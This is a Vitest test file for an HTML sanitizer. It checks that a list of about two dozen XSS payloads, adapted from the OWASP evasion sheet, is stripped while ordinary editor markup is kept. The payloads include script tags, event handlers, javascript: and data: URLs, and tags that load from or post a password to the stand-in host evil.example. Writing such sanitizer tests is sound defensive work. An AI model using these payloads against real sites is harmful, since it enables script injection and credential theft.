import { describe, expect, it } from 'vitest';
import { safeHtml, textOfHtml } from '../src/lib/safe-html';

/** The usual ways of smuggling script into HTML (after the OWASP filter evasion sheet). */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="//evil.example">click</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p onmouseover="alert(1)">hover</p>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '<a href="https://example.com" onclick="alert(1)">ok</a>',
  '<<script>script>alert(1)<</script>/script>',
];

describe('page and post HTML', () => {
  it.each(PAYLOADS)('leaves no way to run code in %s', (payload) => {
    const clean = safeHtml(`<p>Before</p>${payload}<p>After</p>`);
    expect(clean).not.toMatch(/<script|<iframe|<svg|<object|<embed|<form|<style|<meta|<base/i);
    expect(clean).not.toMatch(/\son\w+\s*=/i);
    expect(clean).not.toMatch(/javascript:|data:text|href="\/\//i);
    expect(clean).not.toMatch(/style=/i);
    expect(clean).toContain('<p>Before</p>');
  });

  it('keeps what an editor writes: headings, lists, links, images, tables', () => {
    const html =
      '<h2 id="start">Start</h2><p>A <strong>bold</strong> and <em>fine</em> <a href="https://example.com/x" title="x">link</a>.</p>' +
      '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol><img src="https://example.com/a.png" alt="A chart">' +
      '<table><thead><tr><th scope="col">Skill</th></tr></thead><tbody><tr><td>SQL</td></tr></tbody></table>' +
      '<p><a href="mailto:hello@example.com">Mail</a> <a href="tel:+8801712345678">Call</a></p>';
    // Only the spelling changes: void elements are written closed.
    expect(safeHtml(html)).toBe(html.replace('alt="A chart">', 'alt="A chart" />'));
  });

  it('makes a link to a new tab unable to reach back', () => {
    expect(safeHtml('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('reads the words of HTML', () => {
    expect(textOfHtml('<h2>CV&nbsp;tips</h2><p>Keep it &amp; short.</p><script>x()</script>')).toBe(
      'CV tips Keep it & short.',
    );
  });
});
